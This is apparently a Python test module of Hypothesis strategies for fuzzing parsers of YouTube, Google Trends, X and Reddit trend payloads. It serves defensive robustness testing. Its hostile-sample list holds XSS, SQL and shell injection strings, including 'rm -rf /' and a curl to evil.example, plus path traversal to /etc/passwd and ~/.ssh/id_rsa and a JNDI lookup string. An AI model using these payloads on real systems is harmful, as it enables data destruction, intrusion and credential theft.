"""Hypothesis strategies: hostile text and the four trend sources' payloads, well-shaped or not.

``hostile_text()`` mixes generated text with samples chosen to hurt downstream tools: HTML and
script tags, SQL, shell and ffmpeg filter syntax, ASS override tags, path traversal, emoji with
ZWJ and skin tones, flags, RTL and bidi overrides, zero-width characters, 10,000- and
100,000-character titles. ``known_defects=True`` also adds NUL characters and lone UTF-16
surrogates (``"\\ud800"`` escapes in JSON), which once crashed the trend load (now quarantined).

Each ``*_payload()`` strategy draws ``(payload, expected_units)``: the raw bytes as the API
would send them and how many items the parser must account for (an observation or a
quarantined reject each); ``None`` means the payload is not the API's shape at all and must
become exactly one payload-level reject.
"""
from __future__ import annotations

import json

from hypothesis import strategies as st

HOSTILE_SAMPLES = [
    "<script>alert('x')</script>", "<b>bold</b> &amp; <img src=x onerror=alert(1)>",
    "'; DROP TABLE acf.trends; --", "1 OR 1=1", "Robert'); DELETE FROM acf.quarantine;--",
    "$(rm -rf /)", "`reboot`", "a; ls | cat > /etc/passwd", "&& curl http://evil.example",
    "drawtext=text='x':fontfile=/etc/passwd", "[0:v]split[a][b];[a]", "a:b'c,d[e]f;g", "%{pts}",
    "{\\b1}bold{\\fs200}huge{\\pos(0,0)}", "\\N\\n\\h", "{\\k50}karaoke", "{}", "\\",
    "../../../etc/passwd", "..\\..\\windows\\system32", "/absolute/path", "a/../../b", "~/.ssh/id_rsa",
    "👩🏽‍💻 coding", "🏳️‍🌈🇯🇵🇧🇷", "👨‍👩‍👧‍👦 family", "e\u0301\u0301\u0301", "Z̷̢̛a̶l̸g̵o̴",
    "مرحبا بالعالم", "שלום עולם", "\u202eevil\u202c txt.exe", "\u2066isolate\u2069", "abc\u200fdef",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff", "\u00a0\u2028\u2029\u3000", "\r\n\t\x0b\x0c",
    "ＦＵＬＬＷＩＤＴＨ", "ﬁ ligature", "İstanbul ß", "null", "None", "NaN", "-1", "1e309", "true", "",
    "   ", "%s%s%n", "{0}{1}", "${jndi:ldap://x}", "\x1b[31mred\x1b[0m",
]
DEFECT_SAMPLES = ["nul\x00byte", "\x00", "lone \ud800 surrogate", "\udfff"]


def hostile_text(*, known_defects: bool = False, max_size: int = 60) -> st.SearchStrategy[str]:
    samples = HOSTILE_SAMPLES + (DEFECT_SAMPLES if known_defects else [])
    alphabet = st.characters(codec=None) if known_defects else st.characters(blacklist_categories=("Cs",))
    if not known_defects:
        alphabet = st.characters(blacklist_categories=("Cs", "Cc"))
    base = st.one_of(
        st.sampled_from(samples),
        st.text(alphabet=alphabet, max_size=max_size),
        st.lists(st.sampled_from(samples), min_size=2, max_size=4).map(" ".join),
    )
    huge = st.sampled_from(["x" * 10_000, "ab " * 3_400, "😀" * 10_000, "t" * 100_000])
    return st.one_of(base, base, base, base, base, base, base, base, base, huge)


def junk(known_defects: bool = False) -> st.SearchStrategy:
    return st.one_of(
        st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True), st.lists(st.integers(), max_size=3),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2), hostile_text(known_defects=known_defects),
    )


def _text_or_junk(kd: bool) -> st.SearchStrategy:
    return st.one_of(hostile_text(known_defects=kd), hostile_text(known_defects=kd), junk(kd))


def _count(kd: bool) -> st.SearchStrategy:
    return st.one_of(st.integers(min_value=0, max_value=10**12), st.integers(min_value=0, max_value=10**9).map(str),
                     junk(kd))


def _dumps(doc) -> bytes:
    # ensure_ascii: NUL and lone surrogates travel as \u escapes, exactly as an API would send them
    return json.dumps(doc, ensure_ascii=True, allow_nan=True).encode()


def _not_the_shape(kd: bool) -> st.SearchStrategy:
    return st.one_of(
        st.binary(max_size=200),
        st.sampled_from([b"", b"{", b"[", b"null", b"<html><body>502 Bad Gateway</body></html>",
                         b'{"items": [ {"id": ', b"\xff\xfe\x00garbage", b")]}'"]),
        junk(kd).filter(lambda v: v != []).map(_dumps),   # [] is X's v1.1 answer with no places
    ).map(lambda raw: (raw, None))


def _id(kd: bool) -> st.SearchStrategy:
    return st.one_of(st.text(alphabet="abcdefghijklmnopqrstuvwxyzABC0123456789_-", min_size=1, max_size=16),
                     _text_or_junk(kd))


def youtube_payload(kd: bool = False) -> st.SearchStrategy:
    snippet = st.fixed_dictionaries({}, optional={
        "title": _text_or_junk(kd), "categoryId": st.one_of(st.sampled_from(["10", "20", "28"]), junk(kd)),
        "defaultAudioLanguage": st.one_of(st.sampled_from(["en", "pt-BR", "ja"]), junk(kd)),
        "publishedAt": st.one_of(st.sampled_from(["2026-01-01T10:00:00Z", "yesterday"]), junk(kd)),
    })
    stats = st.fixed_dictionaries({}, optional={"viewCount": _count(kd), "likeCount": _count(kd),
                                                "commentCount": _count(kd)})
    item = st.one_of(st.fixed_dictionaries({}, optional={"id": _id(kd), "snippet": st.one_of(snippet, junk(kd)),
                                                         "statistics": st.one_of(stats, junk(kd))}),
                     junk(kd))
    shaped = st.tuples(st.sampled_from([None, "youtube#videoListResponse"]), st.lists(item, max_size=8)).map(
        lambda t: (_dumps({"items": t[1]} if t[0] is None else {"kind": t[0], "items": t[1]}), len(t[1])))
    return st.one_of(shaped, shaped, shaped, _not_the_shape(kd))


def google_trends_payload(kd: bool = False, odd_days: bool = True) -> st.SearchStrategy:
    search = st.one_of(st.fixed_dictionaries({}, optional={
        "title": st.one_of(st.fixed_dictionaries({}, optional={"query": _text_or_junk(kd)}), junk(kd)),
        "formattedTraffic": st.one_of(st.sampled_from(["200K+", "1M+", "5,000+", "1.5B+", "lots"]), junk(kd)),
        "articles": st.one_of(st.lists(st.dictionaries(st.text(max_size=3), st.text(max_size=5), max_size=2),
                                       max_size=3), junk(kd)),
    }), junk(kd))
    days = st.lists(st.lists(search, max_size=5), max_size=3)
    daily = days.map(lambda ds: (_dumps({"default": {"trendingSearchesDays": [
        {"date": "20260101", "trendingSearches": d} for d in ds]}}), sum(len(d) for d in ds)))
    xssi = daily.map(lambda p: (b")]}',\n" + p[0], p[1]))
    story = st.one_of(st.fixed_dictionaries({"entityNames": st.one_of(st.lists(_text_or_junk(kd), max_size=4),
                                                                      junk(kd))},
                                            optional={"title": _text_or_junk(kd), "articles": junk(kd)}), junk(kd))
    realtime = st.lists(story, max_size=6).map(
        lambda s: (_dumps({"storySummaries": {"trendingStories": s}}), len(s)))
    odd_days_payload = st.lists(junk(kd).filter(lambda v: not isinstance(v, dict)), min_size=1, max_size=3).map(   # days that are not objects
        lambda ds: (_dumps({"default": {"trendingSearchesDays": ds}}), None))
    # odd_days: a day that is not an object must be rejected, not crash the parser
    return st.one_of(daily, xssi, realtime, *([odd_days_payload] if odd_days else []), _not_the_shape(kd))


def x_payload(kd: bool = False) -> st.SearchStrategy:
    trend = st.one_of(st.fixed_dictionaries({}, optional={
        "trend_name": _text_or_junk(kd), "name": _text_or_junk(kd),
        "tweet_count": _count(kd), "tweet_volume": _count(kd)}), junk(kd))
    v2 = st.lists(trend, max_size=8).map(lambda ts: (_dumps({"data": ts}), len(ts)))
    v1 = st.lists(st.lists(trend, max_size=4), max_size=3).map(
        lambda places: (_dumps([{"trends": p, "as_of": "2026-01-01T00:00:00Z"} for p in places]),
                        sum(len(p) for p in places)))
    errors = st.just((_dumps({"errors": [{"message": "Rate limit exceeded"}]}), None))
    return st.one_of(v2, v2, v1, errors, _not_the_shape(kd))


def reddit_payload(kd: bool = False) -> st.SearchStrategy:
    post = st.fixed_dictionaries({}, optional={
        "id": _id(kd), "title": _text_or_junk(kd),
        "score": st.one_of(st.integers(min_value=-10**6, max_value=10**9), junk(kd)),
        "num_comments": _count(kd), "upvote_ratio": st.one_of(st.floats(0, 1), junk(kd)),
        "created_utc": st.one_of(st.floats(0, 5e10, allow_nan=False), junk(kd)),
        "subreddit": _text_or_junk(kd), "permalink": st.one_of(st.just("/r/x/comments/1/"), _text_or_junk(kd)),
    })
    child = st.one_of(st.fixed_dictionaries({"kind": st.just("t3"), "data": post}), junk(kd))
    listing = st.lists(child, max_size=8).map(
        lambda cs: (_dumps({"kind": "Listing", "data": {"children": cs, "after": None}}), len(cs)))
    return st.one_of(listing, listing, listing, _not_the_shape(kd))


PAYLOADS = {
    "youtube": youtube_payload,
    "google_trends": google_trends_payload,
    "x": x_payload,
    "reddit": reddit_payload,
}
